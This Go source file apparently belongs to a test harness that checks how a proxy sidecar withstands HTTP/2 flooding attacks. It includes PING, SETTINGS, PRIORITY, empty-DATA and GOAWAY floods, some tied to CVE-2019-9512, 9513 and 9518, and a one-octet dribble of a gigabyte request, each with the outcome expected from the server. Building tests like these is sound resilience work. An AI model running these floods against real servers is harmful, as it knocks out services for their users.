package attack

import (
	"context"
	"encoding/binary"

	"golang.org/x/net/http2"
)

// clientFloods are frames that cost the sidecar something and get nothing done
// (CVE-2019-9512 and those beside it).
func clientFloods() []Client {
	ping := appendFrame(nil, http2.FramePing, 0, 0, make([]byte, 8))
	settings := appendSettings(nil)

	return []Client{
		{Name: "PING flood", What: "pings without end", Want: []string{calm}, Memory: ordinary, Run: flooding(ping)},
		{
			Name: "PING flood, deaf", What: "pings without end and reads no answer",
			Want: []string{held, gone}, Memory: ordinary, Lasts: true, Run: floodingDeaf(ping),
		},
		{
			Name: "flood of PING answers", What: "answers pings that nobody sent",
			Want: []string{calm}, Memory: ordinary,
			Run: flooding(appendFrame(nil, http2.FramePing, http2.FlagPingAck, 0, make([]byte, 8))),
		},
		{Name: "SETTINGS flood", What: "sends SETTINGS without end", Want: []string{calm}, Memory: ordinary, Run: flooding(settings)},
		{
			Name: "SETTINGS flood, deaf", What: "sends SETTINGS without end and reads no acknowledgement",
			Want: []string{held, gone}, Memory: ordinary, Lasts: true, Run: floodingDeaf(settings),
		},
		{
			Name: "large SETTINGS", What: "sends SETTINGS frames of 2,700 parameters",
			Want: []string{calm}, Memory: ordinary, Run: flooding(appendSettings(nil, repeated(2700)...)),
		},
		{
			Name: "flood of acknowledgements", What: "acknowledges SETTINGS that nobody sent",
			Want: []string{calm}, Memory: ordinary,
			Run: flooding(appendFrame(nil, http2.FrameSettings, http2.FlagSettingsAck, 0, nil)),
		},
		{
			Name: "tables that come and go", What: "changes SETTINGS_HEADER_TABLE_SIZE without end",
			Want: []string{calm}, Memory: ordinary,
			Run: flooding(appendSettings(appendSettings(nil,
				http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0}),
				http2.Setting{ID: http2.SettingHeaderTableSize, Val: 1<<32 - 1})),
		},
		{
			Name: "empty DATA flood", What: "sends DATA of no bytes without end (CVE-2019-9518)",
			Want: []string{calm}, Memory: ordinary, Run: floodingStream(appendFrame(nil, http2.FrameData, 0, 1, nil)),
		},
		{
			Name: "padding flood", What: "sends DATA of padding only",
			Want: []string{calm, flow}, Memory: ordinary,
			Run: floodingStream(appendFrame(nil, http2.FrameData, http2.FlagDataPadded, 1, append([]byte{100}, make([]byte, 100)...))),
		},
		{
			Name: "PRIORITY flood", What: "sends PRIORITY without end (CVE-2019-9513)",
			Want: []string{calm}, Memory: ordinary,
			Run: flooding(appendFrame(nil, http2.FramePriority, 0, 3, []byte{0, 0, 0, 0, 1})),
		},
		{
			Name: "unknown frames", What: "sends frames of a type that nobody knows",
			Want: []string{calm}, Memory: ordinary, Run: flooding(appendFrame(nil, 0xfa, 0, 0, []byte("what?"))),
		},
		{
			Name: "large unknown frames", What: "sends 16 KiB in each frame of a type that nobody knows",
			Want: []string{calm}, Memory: ordinary, Run: flooding(appendFrame(nil, 0xfa, 0, 1, make([]byte, 16<<10))),
		},
		{
			Name: "GOAWAY flood", What: "says GOAWAY without end",
			Want: []string{calm, gone}, Memory: ordinary, Run: flooding(appendFrame(nil, http2.FrameGoAway, 0, 0, make([]byte, 8))),
		},
		{
			Name: "GOAWAY flood with a stream open", What: "says GOAWAY without end, and never finishes",
			Want: []string{calm}, Memory: ordinary, Run: floodingStream(appendFrame(nil, http2.FrameGoAway, 0, 0, make([]byte, 8))),
		},
		{
			Name: "DATA octet by octet", What: "sends a request of a gigabyte in frames of one octet",
			Want: []string{held, answered}, Memory: budgeted, Lasts: true, Run: dribble,
		},
	}
}

func repeated(n int) []http2.Setting {
	s := make([]http2.Setting, n)
	for i := range s {
		s[i] = http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: uint32(i)}
	}

	return s
}

// flooding sends the same again and again.
func flooding(frame []byte) func(context.Context, string) (End, error) {
	return func(ctx context.Context, address string) (End, error) {
		c, err := greet(ctx, address)
		if err != nil {
			return End{}, err
		}
		c.flood(ctx, func(p []byte) []byte { return append(p, frame...) })

		return c.end(), nil
	}
}

// floodingDeaf does so and reads nothing.
func floodingDeaf(frame []byte) func(context.Context, string) (End, error) {
	return func(ctx context.Context, address string) (End, error) {
		c, err := greetDeaf(ctx, address)
		if err != nil {
			return End{}, err
		}
		c.flood(ctx, func(p []byte) []byte { return append(p, frame...) })

		return c.end(), nil
	}
}

// floodingStream does so beside, or on, a stream with the id 1 that hangs.
func floodingStream(frame []byte) func(context.Context, string) (End, error) {
	return func(ctx context.Context, address string) (End, error) {
		c, err := greet(ctx, address)
		if err != nil {
			return End{}, err
		}
		_ = c.write(appendRequest(nil, whole, 1, request(MethodHang)))
		c.flood(ctx, func(p []byte) []byte { return append(p, frame...) })

		return c.end(), nil
	}
}

// dribble sends one gRPC message octet by octet, as fast as its window allows:
// it knows no more of that than the method that reads everything gives back.
func dribble(ctx context.Context, address string) (End, error) {
	c, err := greet(ctx, address)
	if err != nil {
		return End{}, err
	}
	_ = c.write(appendRequest(nil, whole, 1, request(MethodSink)))
	_ = c.write(appendFrame(nil, http2.FrameData, 0, 1, binary.BigEndian.AppendUint32([]byte{0}, 1<<30)))
	octet := appendFrame(nil, http2.FrameData, 0, 1, []byte{0})
	const most = 60_000
	n := 0
	c.flood(ctx, func(p []byte) []byte {
		if n++; n > most {
			<-ctx.Done()
		}

		return append(p, octet...)
	})

	return c.end(), nil
}
